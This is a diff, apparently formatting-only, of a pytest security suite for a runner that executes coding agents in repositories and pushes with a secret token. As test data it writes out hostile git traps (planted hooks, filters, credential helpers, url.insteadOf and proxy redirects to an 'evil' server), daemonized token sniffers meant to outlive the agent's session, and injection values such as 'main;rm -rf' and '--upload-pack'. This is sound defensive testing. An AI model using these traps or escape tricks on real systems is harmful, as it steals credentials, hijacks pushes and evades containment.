@@ -1,4 +1,4 @@
-"""Security (issue 4, SPEC §5): the token cannot leak, hostile input cannot escape, a hostile
+"""Security (SPEC §5): the token cannot leak, hostile input cannot escape, a hostile
 repository or agent cannot steal the token or move the push.
 
 Every test uses a token unique to it (`fresh_token`), so a scan of every process and file on the
@@ -124,12 +124,16 @@ def test_token_in_no_form_anywhere_during_and_after_a_job(sworld: World, tmp_pat
     dumps.mkdir()
     script = write_script(tmp_path / "agent.sh", AGENT_DUMP_SCRIPT)
     job_id = world.add_job(prompt="Write f; the token must stay secret")
-    scanner = ProcessScanner(forms, [job_id], roots=[world.temp_dir, world.tmp / "home"],
-                             redis_url=world.redis_server.url)
+    scanner = ProcessScanner(
+        forms, [job_id], roots=[world.temp_dir, world.tmp / "home"], redis_url=world.redis_server.url
+    )
     with scanner:
         # Unsandboxed: the agent dumps what it sees outside its clone (test_sandbox.py covers the sandbox).
-        result = world.run_burst(AGENT_COMMAND=f"{agent_command(script)} {shlex.quote(str(dumps))}",
-                                 CLEANUP_AFTER_JOB=str(cleanup).lower(), AGENT_SANDBOX="none")
+        result = world.run_burst(
+            AGENT_COMMAND=f"{agent_command(script)} {shlex.quote(str(dumps))}",
+            CLEANUP_AFTER_JOB=str(cleanup).lower(),
+            AGENT_SANDBOX="none",
+        )
     assert result.returncode == 0, result.stderr[-2000:]
     job = world.job(job_id)
     assert job["status"] == "success", job
@@ -175,8 +179,9 @@ def test_scanner_finds_every_token_form(tmp_path: Path) -> None:
     (tmp_path / "a").write_bytes(b"x" + forms["basic-auth-base64"] + b"y")
     (tmp_path / f"name-{forms['url-encoded'].decode()}").write_text("")
     marker = f"control-{tmp_path.name}"
-    proc = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(5)", marker, token],
-                            env={"X": forms["raw"].decode()})
+    proc = subprocess.Popen(
+        [sys.executable, "-c", "import time; time.sleep(5)", marker, token], env={"X": forms["raw"].decode()}
+    )
     try:
         wait_for(lambda: processes_with_marker(marker.encode()), timeout_s=10, what="control process")
         scanner = ProcessScanner(forms, [], roots=[tmp_path])
@@ -208,23 +213,32 @@ class PushClock:
         monkeypatch.setattr(server, "_record", record)
 
 
-@pytest.mark.parametrize("launch", [
-    "daemon",            # double fork + setsid: escapes the agent's session and process group
-    "daemon-no-marker",  # same, with REPOBOX_JOB_ID removed from its environment
-    "daemon-spoofed-marker",  # same, claiming to belong to another job
-])
+@pytest.mark.parametrize(
+    "launch",
+    [
+        "daemon",  # double fork + setsid: escapes the agent's session and process group
+        "daemon-no-marker",  # same, with REPOBOX_JOB_ID removed from its environment
+        "daemon-spoofed-marker",  # same, claiming to belong to another job
+    ],
+)
 def test_daemonized_agent_process_is_gone_before_the_push_and_never_sees_the_token(
-        sworld: World, tmp_path: Path, marker_tag: str, monkeypatch: pytest.MonkeyPatch, launch: str) -> None:
+    sworld: World, tmp_path: Path, marker_tag: str, monkeypatch: pytest.MonkeyPatch, launch: str
+) -> None:
     world = sworld
     forms = token_forms(world.token)
     sniffer = sniffer_script(tmp_path)
     loot, heartbeat = tmp_path / "loot.bin", tmp_path / "heartbeat.txt"
-    env_prefix = {"daemon": "", "daemon-no-marker": "env -u REPOBOX_JOB_ID ",
-                  "daemon-spoofed-marker": "env REPOBOX_JOB_ID=some-other-job "}[launch]
+    env_prefix = {
+        "daemon": "",
+        "daemon-no-marker": "env -u REPOBOX_JOB_ID ",
+        "daemon-spoofed-marker": "env REPOBOX_JOB_ID=some-other-job ",
+    }[launch]
     args = " ".join(shlex.quote(str(a)) for a in (sniffer, loot, heartbeat, marker_tag, 30))
-    command = (f"{env_prefix}python3 {args}; "
-               f"i=0; while [ ! -s {shlex.quote(str(heartbeat))} ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; "
-               "sleep 0.3; echo changed > f; echo agent done")
+    command = (
+        f"{env_prefix}python3 {args}; "
+        f"i=0; while [ ! -s {shlex.quote(str(heartbeat))} ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done; "
+        "sleep 0.3; echo changed > f; echo agent done"
+    )
     clock = PushClock()
     clock.install(world.git, monkeypatch)
     job_id = world.add_job()
@@ -248,7 +262,8 @@ def test_daemonized_agent_process_is_gone_before_the_push_and_never_sees_the_tok
 
 
 def test_daemon_borrowing_a_concurrent_jobs_marker_is_gone_before_the_push(
-        sworld: World, tmp_path: Path, marker_tag: str) -> None:
+    sworld: World, tmp_path: Path, marker_tag: str
+) -> None:
     """Job A's agent leaves a daemon carrying the REPOBOX_JOB_ID of job B, whose agent is still
     running on the same runner (any same-user process can read it from /proc/<pid>/environ):
     the daemon must still be gone before A pushes."""
@@ -262,7 +277,9 @@ def test_daemon_borrowing_a_concurrent_jobs_marker_is_gone_before_the_push(
     victim = world.add_job(user=world.user("userb"), prompt="victim-b")
     attacker = world.add_job(user=world.user("usera"), prompt="attacker-a")
     args = " ".join(shlex.quote(str(a)) for a in (sniffer_script(tmp_path), loot, heartbeat, marker_tag, 30))
-    script = write_script(tmp_path / "agent.sh", f"""
+    script = write_script(
+        tmp_path / "agent.sh",
+        f"""
 case "$REPOBOX_PROMPT" in
   victim-b) touch {shlex.quote(str(victim_started))}; sleep 6 ;;
   attacker-a)
@@ -271,7 +288,8 @@ case "$REPOBOX_PROMPT" in
     sleep 0.3 ;;
 esac
 echo changed > f
-""")
+""",
+    )
     # The reaper's job (AGENT_SANDBOX=none): in the sandbox no other job's process is visible.
     result = world.run_burst(AGENT_COMMAND=agent_command(script), MAX_CONCURRENT_JOBS="4", AGENT_SANDBOX="none")
     assert result.returncode == 0, result.stderr[-2000:]
@@ -285,51 +303,73 @@ echo changed > f
 # Each snippet runs in the agent with: R (the clone), T (a trap command that creates the marker
 # file, then behaves like `cat`), EVIL (the same repository on a second server), EVIL_BASE,
 # REAL_BASE (the real server's base URL), PROXY (a listener that records connections).
-HOOKS = ("pre-commit", "commit-msg", "pre-push", "reference-transaction", "post-commit", "post-update",
-         "pre-receive", "post-checkout", "push-to-checkout", "fsmonitor-watchman", "prepare-commit-msg")
+HOOKS = (
+    "pre-commit",
+    "commit-msg",
+    "pre-push",
+    "reference-transaction",
+    "post-commit",
+    "post-update",
+    "pre-receive",
+    "post-checkout",
+    "push-to-checkout",
+    "fsmonitor-watchman",
+    "prepare-commit-msg",
+)
 PLANT_HOOKS = "for h in " + " ".join(HOOKS) + '; do cp "$T" "$1/$h"; chmod +x "$1/$h"; done'
 ATTRIBUTES = 'printf "* filter=trap diff=trap merge=trap\\n" > "$R/.gitattributes"'
-FILTER_CONFIG = ('git config filter.trap.clean "$T"; git config filter.trap.smudge "$T"; '
-                 'git config filter.trap.required true')
+FILTER_CONFIG = (
+    'git config filter.trap.clean "$T"; git config filter.trap.smudge "$T"; git config filter.trap.required true'
+)
 
 CLONE_TRAPS: dict[str, str] = {
     "hooks": f'set -- "$R/.git/hooks"; {PLANT_HOOKS}',
     "core.hooksPath": f'mkdir -p "$R/.evil-hooks"; set -- "$R/.evil-hooks"; {PLANT_HOOKS}; '
-                      'git config core.hooksPath "$R/.evil-hooks"',
+    'git config core.hooksPath "$R/.evil-hooks"',
     "core.fsmonitor": 'git config core.fsmonitor "$T"',
     "filter-clean-smudge": f"{ATTRIBUTES}; {FILTER_CONFIG}",
     "filter-process": f'{ATTRIBUTES}; git config filter.trap.process "$T"; git config filter.trap.required true',
     "diff-textconv": f'{ATTRIBUTES}; git config diff.trap.textconv "$T"; git config diff.trap.command "$T"',
     "diff.external": 'git config diff.external "$T"',
-    "include.path": ('printf "[core]\\n\\tfsmonitor = %s\\n\\thooksPath = /nonexistent\\n[filter \\"trap\\"]\\n'
-                     '\\tclean = %s\\n[url \\"%s\\"]\\n\\tinsteadOf = %s\\n" "$T" "$T" "$EVIL_BASE" "$REAL_BASE" '
-                     f'> "$R/.git/evil.cfg"; {ATTRIBUTES}; git config include.path evil.cfg; '
-                     'git config "includeIf.gitdir:/.path" "$R/.git/evil.cfg"'),
+    "include.path": (
+        'printf "[core]\\n\\tfsmonitor = %s\\n\\thooksPath = /nonexistent\\n[filter \\"trap\\"]\\n'
+        '\\tclean = %s\\n[url \\"%s\\"]\\n\\tinsteadOf = %s\\n" "$T" "$T" "$EVIL_BASE" "$REAL_BASE" '
+        f'> "$R/.git/evil.cfg"; {ATTRIBUTES}; git config include.path evil.cfg; '
+        'git config "includeIf.gitdir:/.path" "$R/.git/evil.cfg"'
+    ),
     "core.sshCommand": 'git config core.sshCommand "$T"; git config url."ssh://git@127.0.0.1/x".insteadOf "$REAL_BASE"',
-    "credential.helper": ('git config credential.helper "!$T"; git config core.askPass "$T"; '
-                          'git config http.extraHeader "X-Planted: yes"'),
+    "credential.helper": (
+        'git config credential.helper "!$T"; git config core.askPass "$T"; git config http.extraHeader "X-Planted: yes"'
+    ),
     "url.insteadOf": 'git config url."$EVIL_BASE".insteadOf "$REAL_BASE"',
     "url.pushInsteadOf": 'git config url."$EVIL_BASE".pushInsteadOf "$REAL_BASE"',
     "remote.origin.pushurl": 'git config remote.origin.pushurl "$EVIL"',
     "remote.origin.url": 'git remote set-url origin "$EVIL"',
-    "http.proxy": ('git config http.proxy "$PROXY"; git config "http.$REAL_BASE.proxy" "$PROXY"; '
-                   'git config remote.origin.proxy "$PROXY"; git config http.sslVerify false'),
+    "http.proxy": (
+        'git config http.proxy "$PROXY"; git config "http.$REAL_BASE.proxy" "$PROXY"; '
+        'git config remote.origin.proxy "$PROXY"; git config http.sslVerify false'
+    ),
 }
 
 # The runner's own bare repository is a sibling of the clone: the agent can write there too.
 RUNNER_REPO_TRAPS: dict[str, str] = {
-    "runner-config": (f'{ATTRIBUTES}; G="$R/../git"; '
-                      'printf "[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n[filter \\"trap\\"]\\n\\tclean = %s\\n'
-                      '[url \\"%s\\"]\\n\\tpushInsteadOf = %s\\n[http]\\n\\tproxy = %s\\n" "$T" "$G/hooks" "$T" '
-                      '"$EVIL_BASE" "$REAL_BASE" "$PROXY" >> "$G/config"'),
+    "runner-config": (
+        f'{ATTRIBUTES}; G="$R/../git"; '
+        'printf "[core]\\n\\tfsmonitor = %s\\n\\thooksPath = %s\\n[filter \\"trap\\"]\\n\\tclean = %s\\n'
+        '[url \\"%s\\"]\\n\\tpushInsteadOf = %s\\n[http]\\n\\tproxy = %s\\n" "$T" "$G/hooks" "$T" '
+        '"$EVIL_BASE" "$REAL_BASE" "$PROXY" >> "$G/config"'
+    ),
     "runner-hooks": f'set -- "$R/../git/hooks"; mkdir -p "$1"; {PLANT_HOOKS}',
-    "runner-info-attributes": ('mkdir -p "$R/../git/info"; printf "* filter=trap\\n" > "$R/../git/info/attributes"; '
-                               f'{FILTER_CONFIG}'),
+    "runner-info-attributes": (
+        f'mkdir -p "$R/../git/info"; printf "* filter=trap\\n" > "$R/../git/info/attributes"; {FILTER_CONFIG}'
+    ),
     # `commondir` makes git read its config (and refs) from another directory: here the clone's
     # .git, whose config the agent controls.
-    "runner-commondir": (f'{ATTRIBUTES}; {FILTER_CONFIG}; git config core.fsmonitor "$T"; '
-                         'git config url."$EVIL_BASE".pushInsteadOf "$REAL_BASE"; '
-                         'echo "$R/.git" > "$R/../git/commondir"'),
+    "runner-commondir": (
+        f'{ATTRIBUTES}; {FILTER_CONFIG}; git config core.fsmonitor "$T"; '
+        'git config url."$EVIL_BASE".pushInsteadOf "$REAL_BASE"; '
+        'echo "$R/.git" > "$R/../git/commondir"'
+    ),
 }
 
 
@@ -348,20 +388,24 @@ class TrapCase:
     job_id: str = ""
 
 
-def plant(dir: Path, *, repo_name: str, real: GitHttpsServer, evil: GitHttpsServer, proxy_port: int,
-          snippet: str) -> tuple[Path, Path]:
+def plant(
+    dir: Path, *, repo_name: str, real: GitHttpsServer, evil: GitHttpsServer, proxy_port: int, snippet: str
+) -> tuple[Path, Path]:
     """The agent script planting `snippet` (then changing two files); (script, marker)."""
     dir.mkdir(parents=True, exist_ok=True)
     marker = dir / "TRAP_FIRED"
     trap = write_script(dir / "trap.sh", f'touch {shlex.quote(str(marker))}\nexec cat "$@"\n')
-    prelude = "\n".join([
-        "set -e", 'R="$REPOBOX_REPO_DIR"; cd "$R"',
-        f"T={shlex.quote(str(trap))}",
-        f"EVIL={shlex.quote(evil.repo_url(repo_name))}",
-        f"EVIL_BASE={shlex.quote(evil.base_url + '/')}",
-        f"REAL_BASE={shlex.quote(real.base_url + '/')}",
-        f"PROXY=http://127.0.0.1:{proxy_port}",
-    ])
+    prelude = "\n".join(
+        [
+            "set -e",
+            'R="$REPOBOX_REPO_DIR"; cd "$R"',
+            f"T={shlex.quote(str(trap))}",
+            f"EVIL={shlex.quote(evil.repo_url(repo_name))}",
+            f"EVIL_BASE={shlex.quote(evil.base_url + '/')}",
+            f"REAL_BASE={shlex.quote(real.base_url + '/')}",
+            f"PROXY=http://127.0.0.1:{proxy_port}",
+        ]
+    )
     body = f"{prelude}\n{snippet}\necho changed >> README.md\necho new > added.txt\necho planted\n"
     return write_script(dir / "plant.sh", body), marker
 
@@ -396,18 +440,30 @@ def trap_run(tmp_path_factory: pytest.TempPathFactory, git_server: GitHttpsServe
             repo_url = git_server.create_repo(repo_name, REPO_FILES)
             evil.create_repo(repo_name, REPO_FILES)
             proxy = stack.enter_context(RecordingListener())
-            script, marker = plant(tmp / "cases" / slug, repo_name=repo_name, real=git_server, evil=evil,
-                                   proxy_port=proxy.port, snippet=snippet)
+            script, marker = plant(
+                tmp / "cases" / slug,
+                repo_name=repo_name,
+                real=git_server,
+                evil=evil,
+                proxy_port=proxy.port,
+                snippet=snippet,
+            )
             case = TrapCase(name, repo_name, marker, script, proxy)
             case.job_id = world.add_job(repo_url=repo_url, prompt="trap")
             scripts.mkdir(exist_ok=True)
             (scripts / case.job_id).symlink_to(script)
             cases[name] = case
-        result = world.repobox("run", "--burst", timeout_s=BURST_DEADLINE_S,
-                               AGENT_COMMAND=f'exec /bin/sh {shlex.quote(str(scripts))}/"$REPOBOX_JOB_ID"',
-                               CLEANUP_AFTER_JOB="false", MAX_CONCURRENT_JOBS="6", MAX_JOBS_PER_USER="100",
-                               # Unsandboxed, so the traps in the runner's repository can be planted.
-                               AGENT_SANDBOX="none")
+        result = world.repobox(
+            "run",
+            "--burst",
+            timeout_s=BURST_DEADLINE_S,
+            AGENT_COMMAND=f'exec /bin/sh {shlex.quote(str(scripts))}/"$REPOBOX_JOB_ID"',
+            CLEANUP_AFTER_JOB="false",
+            MAX_CONCURRENT_JOBS="6",
+            MAX_JOBS_PER_USER="100",
+            # Unsandboxed, so the traps in the runner's repository can be planted.
+            AGENT_SANDBOX="none",
+        )
         yield TrapRun(world, evil, cases, result.stderr, result.returncode)
     world.close()
     redis_server.stop()
@@ -446,7 +502,8 @@ def test_trap_planted_in_the_clone_never_runs_and_never_moves_the_push(trap_run:
 
 @pytest.mark.parametrize("name", list(RUNNER_REPO_TRAPS))
 def test_trap_planted_in_the_runner_repository_never_runs_and_never_moves_the_push(
-        trap_run: TrapRun, name: str) -> None:
+    trap_run: TrapRun, name: str
+) -> None:
     job, output = check_trap(trap_run, name)
     case = trap_run.cases[name]
     if job["status"] == "success":
@@ -467,41 +524,64 @@ def _naive_git_user(case_dir: Path, name: str, snippet: str, world: World, evil:
     repo_url = world.git.create_repo(repo_name, REPO_FILES)
     evil.create_repo(repo_name, REPO_FILES)
     header = "Authorization: Basic " + base64.b64encode(f"oauth2:{world.token}".encode()).decode()
-    env = clean_git_env({"GIT_SSL_CAINFO": str(world.tls.ca_file), "HOME": str(case_dir),
-                         "GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "http.extraHeader",
-                         "GIT_CONFIG_VALUE_0": header})
+    env = clean_git_env(
+        {
+            "GIT_SSL_CAINFO": str(world.tls.ca_file),
+            "HOME": str(case_dir),
+            "GIT_CONFIG_COUNT": "1",
+            "GIT_CONFIG_KEY_0": "http.extraHeader",
+            "GIT_CONFIG_VALUE_0": header,
+        }
+    )
     no_auth = {k: v for k, v in env.items() if not k.startswith("GIT_CONFIG_")}
     repo = case_dir / "repo"
     with RecordingListener() as proxy:
-        subprocess.run(["git", "clone", "-q", repo_url, str(repo)], env=env, check=True, capture_output=True,
-                       timeout=30)
-        script, marker = plant(case_dir / "plant", repo_name=repo_name, real=world.git, evil=evil,
-                               proxy_port=proxy.port, snippet=snippet)
-        subprocess.run(["/bin/sh", str(script)], env={**env, "REPOBOX_REPO_DIR": str(repo)}, cwd=repo,
-                       check=True, capture_output=True, timeout=30)
-        for args, step_env in [(["add", "-A"], env), (["commit", "-q", "-m", "x"], env), (["diff", "HEAD~1"], env),
-                               (["push", "origin", "HEAD:refs/heads/naive"], no_auth),
-                               (["push", "origin", "HEAD:refs/heads/naive"], env)]:
-            subprocess.run(["git", *args], env=step_env, cwd=repo, capture_output=True, timeout=30,
-                           stdin=subprocess.DEVNULL)
+        subprocess.run(
+            ["git", "clone", "-q", repo_url, str(repo)], env=env, check=True, capture_output=True, timeout=30
+        )
+        script, marker = plant(
+            case_dir / "plant", repo_name=repo_name, real=world.git, evil=evil, proxy_port=proxy.port, snippet=snippet
+        )
+        subprocess.run(
+            ["/bin/sh", str(script)],
+            env={**env, "REPOBOX_REPO_DIR": str(repo)},
+            cwd=repo,
+            check=True,
+            capture_output=True,
+            timeout=30,
+        )
+        for args, step_env in [
+            (["add", "-A"], env),
+            (["commit", "-q", "-m", "x"], env),
+            (["diff", "HEAD~1"], env),
+            (["push", "origin", "HEAD:refs/heads/naive"], no_auth),
+            (["push", "origin", "HEAD:refs/heads/naive"], env),
+        ]:
+            subprocess.run(
+                ["git", *args], env=step_env, cwd=repo, capture_output=True, timeout=30, stdin=subprocess.DEVNULL
+            )
         to_evil = [r for r in evil.requests if repo_name in r.path and r.authorization]
         fired = marker.exists() or bool(to_evil) or bool(proxy.received)
     return None if fired else name
 
 
 def test_the_clone_traps_are_live_against_a_naive_git_user(
-        sworld: World, tmp_path: Path, evil_server: GitHttpsServer) -> None:
+    sworld: World, tmp_path: Path, evil_server: GitHttpsServer
+) -> None:
     """Control for the trap tests: each trap does fire (marker, credentials at the second server,
     or a proxy connection) when someone commits and pushes in the clone the ordinary way."""
     with ThreadPoolExecutor(4) as pool:
-        dead = pool.map(lambda item: _naive_git_user(tmp_path / item[0].replace(".", "-"), item[0], item[1],
-                                                     sworld, evil_server), CLONE_TRAPS.items())
+        dead = pool.map(
+            lambda item: _naive_git_user(tmp_path / item[0].replace(".", "-"), item[0], item[1], sworld, evil_server),
+            CLONE_TRAPS.items(),
+        )
         assert [name for name in dead if name] == []
 
 
 @pytest.mark.parametrize("when", ["from-the-start", "at-push"])
 def test_redirect_to_a_second_server_is_not_followed_and_gets_no_credentials(
-        sworld: World, tmp_path: Path, evil_server: GitHttpsServer, when: str) -> None:
+    sworld: World, tmp_path: Path, evil_server: GitHttpsServer, when: str
+) -> None:
     """The job's server (a legitimate provider host) answers 302 to a second server, either from
     the first request or only once the agent ran (so only the push is redirected)."""
     world = sworld
@@ -558,15 +638,20 @@ echo planted
 
 
 def test_runner_repository_commondir_cannot_start_a_process_that_steals_the_token_at_push(
-        sworld: World, tmp_path: Path, marker_tag: str) -> None:
+    sworld: World, tmp_path: Path, marker_tag: str
+) -> None:
     """The agent cannot reach the token itself; can it make the runner's own git steps (after the
     agent's leftovers were killed) start something that waits for the push?"""
     world = sworld
     forms = token_forms(world.token)
     loot, heartbeat = tmp_path / "loot.bin", tmp_path / "heartbeat.txt"
     body = COMMONDIR_THEFT
-    for name, value in {"SNIFFER": sniffer_script(tmp_path), "LOOT": loot, "HEARTBEAT": heartbeat,
-                        "TAG": marker_tag}.items():
+    for name, value in {
+        "SNIFFER": sniffer_script(tmp_path),
+        "LOOT": loot,
+        "HEARTBEAT": heartbeat,
+        "TAG": marker_tag,
+    }.items():
         body = body.replace(f"${name}", shlex.quote(str(value)))
     script = write_script(tmp_path / "agent.sh", body)
     job_id = world.add_job()
@@ -624,7 +709,10 @@ def hostile_corpus(world: World, tmp_path: Path, other_port: int) -> list[Case]:
         "userinfo-no-password": (f"https://oauth2@{host}/{name}.git", "credentials"),
         "http-without-opt-in": (f"http://{host}/{name}.git", "scheme"),
         "other-port-than-provider": (f"https://127.0.0.1:{other_port}/{name}.git", "not the git provider's host"),
-        "other-host-name-than-provider": (f"https://localhost:{world.git.port}/{name}.git", "not the git provider's host"),
+        "other-host-name-than-provider": (
+            f"https://localhost:{world.git.port}/{name}.git",
+            "not the git provider's host",
+        ),
         "newline-then-option": (f"{world.repo_url}\n--upload-pack=touch {pwn('newline')}", "whitespace"),
         "query-string": (f"{world.repo_url}?x=--upload-pack=touch%20{pwn('query')}", "query"),
         "dot-dot-path": (f"https://{host}/../../{name}.git", "path"),
@@ -634,9 +722,18 @@ def hostile_corpus(world: World, tmp_path: Path, other_port: int) -> list[Case]:
     }
     cases = [Case(f"url:{k}", job={"repo_url": url}, reason=reason) for k, (url, reason) in url_cases.items()]
     bad_branches = {
-        "semicolon-rm": f"main;rm -rf {victim}", "dot-dot": "../x", "leading-dash": "-x", "a..b": "a..b",
-        "option": "--upload-pack=touch", "lock": "x.lock", "at-brace": "@{-1}", "tilde": "HEAD~1",
-        "control": "main\x01", "newline": "main\nx", "absolute": "/abs", "trailing-dot": "x.",
+        "semicolon-rm": f"main;rm -rf {victim}",
+        "dot-dot": "../x",
+        "leading-dash": "-x",
+        "a..b": "a..b",
+        "option": "--upload-pack=touch",
+        "lock": "x.lock",
+        "at-brace": "@{-1}",
+        "tilde": "HEAD~1",
+        "control": "main\x01",
+        "newline": "main\nx",
+        "absolute": "/abs",
+        "trailing-dot": "x.",
     }
     cases += [Case(f"branch:{k}", job={"branch": b}, reason="branch") for k, b in bad_branches.items()]
     cases += [
@@ -659,13 +756,25 @@ def hostile_corpus(world: World, tmp_path: Path, other_port: int) -> list[Case]:
         Case("id:job-too-long", job={"job_id": "a" * 300}, expect="refused"),
         Case("prompt:1MB", job={"prompt": "A" * (1024 * 1024)}, reason="too large"),
         Case("prompt:NUL", job={"prompt": "before\x00after"}, reason="NUL"),
-        Case("prompt:control-and-shell", expect="success", job={
-            "prompt": f"\x1b[31mred\x07\r\n$(touch {pwn('prompt1')}); `touch {pwn('prompt2')}`; \x7f\x08'\"*"}),
+        Case(
+            "prompt:control-and-shell",
+            expect="success",
+            job={"prompt": f"\x1b[31mred\x07\r\n$(touch {pwn('prompt1')}); `touch {pwn('prompt2')}`; \x7f\x08'\"*"},
+        ),
         Case("entry:only-job-id", entry={"job_id": "{job}"}, reason="lacks"),
         Case("entry:no-job-id", entry={"user_id": world.default_user, "repo_url": world.repo_url}, expect="refused"),
-        Case("entry:no-such-job", entry={"job_id": "no-such-job", "user_id": world.default_user, "provider_id": world.provider_id,
-                                         "repo_url": world.repo_url, "prompt": "x", "environment": "d"},
-             expect="refused"),
+        Case(
+            "entry:no-such-job",
+            entry={
+                "job_id": "no-such-job",
+                "user_id": world.default_user,
+                "provider_id": world.provider_id,
+                "repo_url": world.repo_url,
+                "prompt": "x",
+                "environment": "d",
+            },
+            expect="refused",
+        ),
         Case("hash:id-mismatch", job={"id": "someone-else"}, reason="does not match"),
         Case("hash:no-user", job={"user_id": ""}, reason="user_id"),
         Case("hash:already-final", job={"status": "success"}, expect="untouched"),
@@ -712,8 +821,7 @@ def test_hostile_stream_entries_and_job_hashes_all_end_cleanly_in_one_burst(swor
         corpus = hostile_corpus(world, tmp_path, other_server.port)
         written = [(case, *_setup_case(world, case)) for case in corpus]
         before = snapshot(tmp_path, skip), set(os.listdir(tmp_path.parent))
-        result = world.run_burst(AGENT_COMMAND='printf "%s" "$REPOBOX_PROMPT" > prompt.txt',
-                                 MAX_JOBS_PER_USER="10")
+        result = world.run_burst(AGENT_COMMAND='printf "%s" "$REPOBOX_PROMPT" > prompt.txt', MAX_JOBS_PER_USER="10")
         assert other_server.received == [], "a job reached a server that is not its provider's"
     assert result.returncode == 0, result.stderr[-3000:]
     assert "Traceback" not in result.stderr
@@ -754,19 +862,28 @@ def test_hostile_stream_entries_and_job_hashes_all_end_cleanly_in_one_burst(swor
     assert_no_leak_in_results(world, result.stderr, forms)
 
 
-UNDECODABLE_CASES = ["prompt-not-utf8", "repo-url-not-utf8", "job-key-not-a-hash", "entry-job-id-not-utf8",
-                     "entry-field-not-utf8"]
+UNDECODABLE_CASES = [
+    "prompt-not-utf8",
+    "repo-url-not-utf8",
+    "job-key-not-a-hash",
+    "entry-job-id-not-utf8",
+    "entry-field-not-utf8",
+]
 
 
 @pytest.mark.parametrize("kind", UNDECODABLE_CASES)
-def test_undecodable_bytes_and_wrong_key_types_are_refused_and_the_runner_keeps_going(
-        sworld: World, kind: str) -> None:
+def test_undecodable_bytes_and_wrong_key_types_are_refused_and_the_runner_keeps_going(sworld: World, kind: str) -> None:
     """The web app writes strings, but Redis holds bytes: invalid UTF-8 in a job hash or a stream
     entry, or a `job:{id}` key of the wrong type, must not crash or wedge the runner."""
     world = sworld
     raw = redis.Redis.from_url(world.redis_server.url)
-    fields: dict[str, str | bytes] = {"user_id": world.default_user, "provider_id": world.provider_id, "repo_url": world.repo_url,
-                                      "prompt": "x", "environment": "default"}
+    fields: dict[str, str | bytes] = {
+        "user_id": world.default_user,
+        "provider_id": world.provider_id,
+        "repo_url": world.repo_url,
+        "prompt": "x",
+        "environment": "default",
+    }
     job_id: str | None = None
     if kind == "prompt-not-utf8":
         job_id = world.add_job(enqueue=False)
